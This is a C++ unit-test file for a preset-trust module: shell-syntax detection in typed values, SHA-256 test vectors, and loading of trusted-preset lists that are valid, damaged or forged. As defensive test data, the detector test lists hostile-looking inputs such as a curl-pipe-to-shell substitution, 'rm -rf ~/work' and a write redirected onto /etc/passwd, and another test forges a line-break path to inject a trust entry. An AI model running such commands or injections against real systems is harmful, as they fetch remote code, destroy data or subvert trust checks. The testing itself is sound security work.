// Which typed values count as shell syntax, the content hash, and the list of trusted presets,
// including lists that are damaged or were written by someone else.

#include <gtest/gtest.h>

#include <filesystem>
#include <string>

#include "TempDir.h"
#include "presets/PresetTrust.h"

namespace kestrune {
namespace {

using testing::TempDir;

// Joins the parts with +=: chains of + on strings trip a false bounds warning of GCC 12.
std::string Cat(std::initializer_list<std::string_view> parts) {
    std::string text;
    for (const std::string_view part : parts) {
        text += part;
    }
    return text;
}

struct SyntaxCase {
    const char* value;
    bool asks;
};

TEST(PresetTrust, ShellSyntaxInTypedValues) {
    const SyntaxCase cases[] = {
        {"$(curl example.org/x | sh)", true},
        {"`id`", true},
        {"x; rm -rf ~/work", true},
        {"a && b", true},
        {"sleep 9 &", true},
        {"a | b", true},
        {"> /etc/passwd", true},
        {"< secret", true},
        {"one\ntwo", true},
        {"one\rtwo", true},
        {"$HOME/out", true},
        {"${HOME}", true},
        {"$1", true},
        {"$?", true},
        {"$$", true},
        {"-O2", false},
        {"-DNAME=\"a b\"", false},
        {"Tom's notes", false},
        {"100%", false},
        {"cost: 5$", false},
        {"$ 5", false},
        {"C:\\Maps\\level.map", false},
        {"", false},
    };
    for (const SyntaxCase& c : cases) {
        EXPECT_EQ(HasShellSyntax(c.value), c.asks) << c.value;
    }
}

TEST(PresetTrust, Sha256OfKnownTexts) {
    const std::pair<std::string, const char*> cases[] = {
        {"", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"},
        {"abc", "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"},
        // 56 bytes: the length no longer fits the first block.
        {"abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq",
         "248d6a61d20638b8e5c026930c3e6039a33ce45964ff2167f6ecedd419db06c1"},
        {std::string(1000000, 'a'),
         "cdc76e5c9914fb9281a1c7e284d73e67f1809a48a497200e046d39ccc7112cd0"},
    };
    for (const auto& [bytes, hash] : cases) {
        EXPECT_EQ(Sha256Hex(bytes), hash) << bytes.size();
    }
}

constexpr const char* kHashA = "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad";
constexpr const char* kHashB = "248d6a61d20638b8e5c026930c3e6039a33ce45964ff2167f6ecedd419db06c1";

TEST(PresetTrust, ListWritesOneLinePerPresetAndReadsItBack) {
    TempDir dir;
    TrustList list;
    list.Add("/home/u/a.zrp", kHashA);
    list.Add("/home/u/my presets/b.zrp", kHashB);
    // Trusting new bytes of a preset forgets the old ones.
    list.Add("/home/u/a.zrp", kHashB);
    list.Save(dir / "TrustedPresets.txt");
    EXPECT_EQ(dir.Read("TrustedPresets.txt"),
              Cat({"KestruneTrust 1\r\nsha256 ", kHashB, " /home/u/my presets/b.zrp\r\nsha256 ",
                   kHashB, " /home/u/a.zrp\r\n"}));

    const TrustList read = TrustList::Load(dir / "TrustedPresets.txt");
    EXPECT_TRUE(read.Trusts("/home/u/a.zrp", kHashB));
    EXPECT_FALSE(read.Trusts("/home/u/a.zrp", kHashA));
    EXPECT_TRUE(read.Trusts("/home/u/my presets/b.zrp", kHashB));
    EXPECT_FALSE(read.Trusts("/home/u/other.zrp", kHashB));
    EXPECT_FALSE(read.Trusts("", kHashB));
}

// Windows reads a path without regard to letter case and with either separator, so the same
// preset opened through another spelling is the same trusted one; elsewhere they are others.
TEST(PresetTrust, AnotherSpellingOfTheSamePathIsTheSamePresetOnWindowsOnly) {
#ifdef _WIN32
    constexpr bool kSame = true;
#else
    constexpr bool kSame = false;
#endif
    const struct {
        const char* spelling;
        bool trusted;
    } cases[] = {
        {"C:\\Users\\u\\a.zrp", true},      {"c:\\users\\U\\A.ZRP", kSame},
        {"C:/Users/u/a.zrp", kSame},        {"c:/USERS\\u/a.Zrp", kSame},
        {"C:\\Users\\u\\a.zrp.bak", false}, {"C:\\Users\\u\\b.zrp", false},
        {"C:\\Users\\u\\\\a.zrp", false},
    };
    TrustList list;
    list.Add("C:\\Users\\u\\a.zrp", kHashA);
    for (const auto& c : cases) {
        EXPECT_EQ(list.Trusts(c.spelling, kHashA), c.trusted) << c.spelling;
        EXPECT_FALSE(list.Trusts(c.spelling, kHashB)) << c.spelling;
    }
    // Trusting it again under another spelling replaces the entry rather than adding one.
    list.Add("c:/users/u/A.zrp", kHashB);
    EXPECT_EQ(list.Trusts("C:\\Users\\u\\a.zrp", kHashA), !kSame);
    EXPECT_EQ(list.Text(), Cat({"KestruneTrust 1\r\n",
                                kSame ? "" : Cat({"sha256 ", kHashA, " C:\\Users\\u\\a.zrp\r\n"}),
                                "sha256 ", kHashB, " c:/users/u/A.zrp\r\n"}));
}

TEST(PresetTrust, PathsWithLineBreaksAreNeverTrusted) {
    TrustList list;
    const std::string forged = Cat({"/x.zrp\r\nsha256 ", kHashA, " /victim.zrp"});
    list.Add(forged, kHashA);
    EXPECT_EQ(list.Text(), "KestruneTrust 1\r\n");
}

struct HostileCase {
    const char* name;
    std::string text;
};

TEST(PresetTrust, DamagedOrForeignListsTrustNothing) {
    const std::string entry = Cat({"sha256 ", kHashA, " /p.zrp\r\n"});
    const std::string_view hash = kHashA;
    const HostileCase cases[] = {
        {"no first line", entry},
        {"another first line", Cat({"KestruneTrust 2\r\n", entry})},
        {"upper-case hash",
         Cat({"KestruneTrust 1\r\nsha256 ", hash.substr(0, 63), "D /p.zrp\r\n"})},
        {"short hash", Cat({"KestruneTrust 1\r\nsha256 ", hash.substr(0, 63), " /p.zrp\r\n"})},
        {"no blank before the path", Cat({"KestruneTrust 1\r\nsha256 ", hash, "/p.zrp\r\n"})},
        {"another hash", Cat({"KestruneTrust 1\r\nmd5 ", hash, " /p.zrp\r\n"})},
        {"too large", Cat({"KestruneTrust 1\r\n", entry, std::string(kMaxTrustFileBytes, '#')})},
        {"binary", Cat({std::string_view("KestruneTrust 1\r\n\0\xff", 19), "sha256 ", hash,
                        std::string_view(" /p\0.zrp", 8)})},
    };
    for (const HostileCase& c : cases) {
        TempDir dir;
        dir.Write("TrustedPresets.txt", c.text);
        EXPECT_FALSE(TrustList::Load(dir / "TrustedPresets.txt").Trusts("/p.zrp", kHashA))
            << c.name;
    }
    // The same entry in a sound list is trusted, so the cases above fail for their fault.
    TempDir dir;
    dir.Write("TrustedPresets.txt", Cat({"KestruneTrust 1\n", entry}));
    EXPECT_TRUE(TrustList::Load(dir / "TrustedPresets.txt").Trusts("/p.zrp", kHashA));
}

TEST(PresetTrust, UnreadableListsTrustNothing) {
    TempDir dir;
    std::filesystem::create_directories(dir / "folder.txt");
    EXPECT_TRUE(TrustList::Load(dir / "folder.txt").Entries().empty());
    EXPECT_TRUE(TrustList::Load(dir / "missing.txt").Entries().empty());
    EXPECT_TRUE(TrustList::Load("/dev/zero").Entries().empty());
}

}  // namespace
}  // namespace kestrune
